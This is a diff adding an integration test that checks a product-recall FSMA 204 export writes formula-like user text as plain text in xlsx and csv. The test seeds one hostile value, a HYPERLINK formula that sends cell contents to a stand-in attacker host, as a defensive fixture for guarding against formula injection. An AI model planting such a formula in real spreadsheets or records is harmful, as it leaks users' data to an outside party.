@@ -482,6 +482,24 @@ class TestProductRecall(IntegrationTestCase):
 		self.assertEqual([cell.value for cell in sheet[1]], list(HEADINGS))
 		self.assertEqual(sheet.max_row, len(rows))
 
+	def test_fsma_export_keeps_user_text_that_looks_like_a_formula_as_text(self):
+		from openpyxl import load_workbook
+
+		formula = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
+		frappe.db.set_value("Batch", self.flour, "tp_supplier_lot", formula)
+		recall = make_recall(self.flour)
+		frappe.set_user(make_user("tp.fsma.stock.user@example.com", "Stock User"))
+		try:
+			download_fsma_204(recall.name, "xlsx")
+		finally:
+			frappe.set_user("Administrator")
+		sheet = load_workbook(io.BytesIO(frappe.local.response.filecontent)).active
+		cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
+		self.assertFalse([cell.coordinate for cell in cells if cell.data_type == "f"])
+		self.assertIn("'" + formula, [cell.value for cell in cells])
+		download_fsma_204(recall.name, "csv")
+		self.assertIn("'" + formula, frappe.local.response.filecontent.decode("utf-8-sig").replace('""', '"'))
+
 	# Mock recall drills ---------------------------------------------------------------------
 
 	def test_mock_recall_holds_nothing_notifies_no_one_and_records_its_times(self):
